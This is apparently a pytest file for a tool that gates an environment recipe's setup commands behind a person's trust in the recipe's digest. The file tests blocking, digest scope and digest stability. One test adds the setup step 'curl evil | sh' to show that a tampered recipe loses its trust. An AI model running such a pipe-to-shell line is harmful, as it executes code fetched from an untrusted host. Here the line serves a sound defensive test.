"""Nothing of a recipe runs before a person has trusted exactly that recipe."""

from __future__ import annotations

from dataclasses import fields, replace
from typing import Any

import pytest
from tests.engine.bench import REVIEWED, WORKFLOW, Bench, run

from interlock.core.model import EnvironmentSpec, Position
from interlock.engine.environments import recipe_digest
from interlock.ports.runner import JudgeKind

RECIPE = EnvironmentSpec(setup=("make env",))


def test_no_command_of_a_recipe_is_run_before_its_digest_is_trusted() -> None:
    """Not for the base, not for a session, not for a gate: nobody is even asked."""

    async def story(b: Bench) -> None:
        b.workflow = replace(WORKFLOW, environment=RECIPE, digest="untrusted")
        task_id = await b.create(REVIEWED)
        await b.leave(task_id)
        await b.ask(task_id)
        await b.reaches(task_id, last_outcome="blocked")
        assert b.runner.judged == []
        assert all(s.spec.environment == "" for s in b.runner.sessions.values())
        digest = await b.now.ledger.run(lambda: b.environments.trust(RECIPE, by="ada"))
        assert digest == recipe_digest(RECIPE)
        await b.ask(task_id)
        await b.until(lambda: JudgeKind.RED in b.runner.judged)

    run(story)


def test_trust_is_for_one_recipe_and_no_other() -> None:
    async def story(b: Bench) -> None:
        await b.now.ledger.run(lambda: b.environments.trust(RECIPE, by="ada"))
        changed = replace(RECIPE, setup=("make env", "curl evil | sh"))
        assert b.environments.is_trusted(RECIPE)
        assert not b.environments.is_trusted(changed)

    run(story)


def other(value: Any) -> Any:
    """A value of the same kind that is not the same."""
    match value:
        case tuple():
            return (*value, "other")
        case dict():
            return {**value, "other": "other"}
    return f"{value}-other"


@pytest.mark.parametrize(
    "name", [field.name for field in fields(EnvironmentSpec) if field.name != "position"]
)
def test_whatever_a_recipe_says_is_part_of_what_is_trusted(name: str) -> None:
    changed = replace(RECIPE, **{name: other(getattr(RECIPE, name))})
    assert recipe_digest(changed) != recipe_digest(RECIPE)


def test_where_a_recipe_stands_is_no_part_of_it() -> None:
    moved = replace(RECIPE, position=Position("agent_workflow.yaml", 9))
    assert recipe_digest(moved) == recipe_digest(RECIPE)


def test_trust_that_was_given_to_earlier_releases_still_counts() -> None:
    assert recipe_digest(EnvironmentSpec(setup=("pip install pytest",))) == (
        "a46253745cf79d7ed53779a2f347a4264607ad3bc77a2be7e15e6615a3f37ab7"
    )
